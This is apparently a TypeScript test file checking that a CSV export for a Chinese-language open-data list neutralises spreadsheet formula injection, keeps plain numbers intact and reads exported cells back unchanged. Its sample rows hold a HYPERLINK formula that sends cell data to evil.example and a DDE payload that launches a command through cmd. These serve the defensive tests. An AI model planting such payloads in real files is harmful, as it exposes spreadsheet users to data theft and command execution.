import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { renderCsv } from "../../lib/open-data/exports";
import { formatCsv, neutraliseFormula, parseCsv, restoreNeutralisedFormula } from "../../lib/spreadsheets/csv";

const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"点此查看")';

describe("CSV exports cannot run formulas in a spreadsheet program", () => {
  test("the public list export (/api/v1/export/*.csv) writes a formula-like title as text", async () => {
    const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(
      await renderCsv({
        sheetName: "信息",
        columns: [
          { key: "title", header: "标题" },
          { key: "documentNumber", header: "文号" },
          { key: "count", header: "数量" },
        ],
        rows: [
          { title: hyperlink, documentNumber: "@SUM(1+1)", count: -3 },
          { title: "+1+1", documentNumber: "-2+3+cmd|' /C calc'!A0", count: 5 },
          { title: "\t=1+1", documentNumber: "\r=1+1", count: null },
        ],
      }),
    );
    assert.ok(csv.startsWith("\uFEFF"), "Excel needs the byte order mark for Chinese text");
    const [header, ...rows] = parseCsv(csv);
    assert.deepEqual(header, ["标题", "文号", "数量"]);
    assert.deepEqual(rows, [
      [`'${hyperlink}`, "'@SUM(1+1)", "-3"],
      ["'+1+1", "'-2+3+cmd|' /C calc'!A0", "5"],
      ["'\t=1+1", "'\r=1+1", ""],
    ]);
  });

  test("plain numbers stay numbers: -12.5 or +3 in a text column is not a formula", () => {
    for (const number of ["-12.5", "+3", "-0.5", "-1e3", "-300"]) assert.equal(neutraliseFormula(number), number);
    for (const formula of ["-1+2", "-A1", "=1", "+A1*2", "@A1", "-", "-1,000"]) assert.equal(neutraliseFormula(formula), `'${formula}`);
    assert.equal(neutraliseFormula("正常文本"), "正常文本");
  });

  test("our own imports read an exported cell back as it was", () => {
    const exported = formatCsv([["标题"], [hyperlink], ["-12.5"]]);
    assert.deepEqual(
      parseCsv(exported).map((row) => row.map(restoreNeutralisedFormula)),
      [["标题"], [hyperlink], ["-12.5"]],
    );
  });
});
